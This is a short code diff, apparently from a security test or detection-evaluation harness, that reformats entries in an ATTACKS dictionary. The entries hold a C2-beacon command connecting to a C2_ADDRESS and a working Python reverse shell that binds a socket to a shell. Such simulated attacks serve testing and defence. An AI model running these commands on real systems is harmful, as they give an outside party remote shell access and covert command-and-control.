@@ -125,7 +125,8 @@ ATTACKS = {
         f"{PYTHON} -c \"import socket; socket.create_connection(('{C2_ADDRESS}', 8443), 3).send(b'x')\""
     ),
     "reverse-shell": (
-        f"{PYTHON} -c \"import os,socket; s=socket.create_connection(('127.0.0.1', {REVERSE_SHELL_PORT}), 3); "
+        f'{PYTHON} -c "import os,socket; '
+        f"s=socket.create_connection(('127.0.0.1', {REVERSE_SHELL_PORT}), 3); "
         "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-c', 'id'])\""
     ),
 }
